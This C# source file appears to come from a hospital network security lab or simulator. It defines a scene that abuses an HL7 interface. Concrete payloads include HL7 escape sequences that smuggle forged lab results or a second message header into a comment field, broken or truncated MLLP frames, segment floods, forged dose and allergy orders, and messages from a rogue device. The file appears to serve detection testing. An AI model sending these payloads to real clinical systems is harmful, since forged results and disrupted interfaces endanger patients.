using System.Net.Sockets;
using System.Text;
using Wardkeeper.Lab.Emitters.Mllp;
using Wardkeeper.Lab.Hospital;
using Wardkeeper.Lab.Recording;
using Wardkeeper.Lab.Site;

namespace Wardkeeper.Lab.Attacks.Messages;

/// <summary>
/// An interface over which HL7 is sent is abused: segments hidden in a text by escapes, broken frames, a flood of segments, a report's sender that begins to order or to change patients' data, or a laptop that
/// was never a sender.
/// </summary>
internal sealed class MessageAbuse() : Scene("hl7-abuse",
    "An HL7 interface is abused: structure hidden in a text by escapes, broken frames, a flood of segments, orders of who only reported, or reports of a laptop that was never a sender.",
    "HL7 接口被滥用：用转义在文本中夹带结构、损坏的帧、大量消息段、只报告结果的系统下达医嘱，或从未发送过的笔记本电脑发送报告。",
    "T1565.002", "T1499.004", "T0855")
{
    private static readonly string[] Ways = ["escape", "frames", "flood", "role", "unknown"];

    /// <inheritdoc/>
    public override async Task<SceneReport> RunAsync(SceneStage stage, CancellationToken cancel)
    {
        HlScript script = HlScript.Of(stage);
        string way = stage.Dice.For("way").Of(Ways);
        if (way is "role" or "unknown") await script.WeekAsync(stage, cancel);
        HostNamespace from = way == "unknown" ? await stage.PlugAsync(RogueDevice.In(stage, stage.Dice.Of(Cast.Inside(stage.Site)).Department), cancel) : script.Sender;
        int times = stage.Dice.Between(1, 4);
        if (way == "frames") times += 5;

        stage.Begin();
        for (int time = 0; time < times; time++)
        {
            if (way == "frames") await BreakAsync(stage, script, cancel);
            else await HlScript.SendAsync(from, script.Receiver, [MessageOf(stage.Dice, script, way, from.Device)], cancel);
            await Task.Delay(stage.Dice.Time(50, 900), cancel);
        }
        return new SceneReport([way == "unknown" ? AllOf(from) : new SceneTraffic(from.Device.Ip, null, script.Receiver.Device.Ip, HlScript.Port)],
            [("sender", way == "unknown" ? from.Device.Ip.ToString() : from.Device.Key), ("receiver", script.Receiver.Device.Key), ("way", way), ("times", SceneStage.Text(times))]);
    }

    private static string MessageOf(Dice dice, HlScript script, string way, HospitalDevice from) => way switch
    {
        "escape" => script.Compose("ORU^R01^ORU_R01", script.Report(script.Value(1), $"OBX|2|TX|48767-8^Comment^LN||{dice.Of(["Sample haemolysed.", "Unremarkable.", "See earlier report."])}{Smuggled(dice)}||||||F")),
        "flood" when dice.Chance(50) => script.Compose("ORU^R01^ORU_R01", script.Report(Enumerable.Range(1, dice.Between(21_000, 45_000)).Select(number => $"NTE|{number}||x"))),
        "flood" => script.Compose("ORU^R01^ORU_R01", script.Report(Enumerable.Range(100, dice.Between(70, 400)).Select(number => $"Z{number.ToString("X3", System.Globalization.CultureInfo.InvariantCulture)[1..]}|{number}"))),
        "role" => dice.Chance(50) ? script.Message(HlKind.Dose).AsSent : script.Message(HlKind.Allergy).AsForged,
        _ => script.Compose("ORU^R01^ORU_R01", script.Report(script.Value(1), script.Value(2)), from.HostName[..Math.Min(8, from.HostName.Length)]),
    };

    /// <summary>A result or a whole message that nobody sent, written so that only who decodes too early sees it. HL7 2.5.1, 2.7.</summary>
    private static string Smuggled(Dice dice)
    {
        const string result = "OBX|9|NM|2823-3^Potassium^LN||7.9|mmol/L|3.5-5.1|HH|||F";
        return dice.Of([
            $@"\X{Convert.ToHexString(Encoding.ASCII.GetBytes("\r" + result))}\",
            $@"\X0D\OBX\F\9\F\NM\F\2823-3\S\Potassium\F\\F\7.9\F\mmol/L",
            $@"\X0D0A\OBX\F\9\F\TX\F\\F\\F\Malignant.",
            @"\X1C0D0B\MSH\F\\S\~\\E\\T\\F\LIS\F\HOSP\F\HIS",
        ]);
    }

    /// <summary>One connection: something that is no frame, and a whole one behind it. The receiver may close at the first.</summary>
    private static async Task BreakAsync(SceneStage stage, HlScript script, CancellationToken cancel)
    {
        byte[] whole = MllpFrame.Wrap(Message()), cut = [0x0B, .. Message()];
        byte[] broken = stage.Dice.Of<byte[]>([cut, [.. "QUIT\r\n"u8, .. stage.Dice.Bytes(20)], MllpFrame.Wrap("PID|1||HL80001"u8), [.. cut[..stage.Dice.Between(20, 60)]]]);
        await using NetworkStream stream = await script.Sender.ConnectAsync(script.Receiver.Device.Ip, HlScript.Port, cancel);
        await stream.WriteAsync((byte[])[.. whole, .. broken, .. whole], cancel);
        stream.Socket.Shutdown(SocketShutdown.Send);
        byte[] answer = new byte[4096];
        try
        {
            while (await stream.ReadAsync(answer, cancel) > 0)
            {
            }
        }
        catch (IOException) when (!cancel.IsCancellationRequested)
        {
            // A receiver that does not understand may reset the connection.
        }

        byte[] Message() => Encoding.UTF8.GetBytes(script.Compose("ORU^R01^ORU_R01", script.Report(script.Value(1))));
    }
}
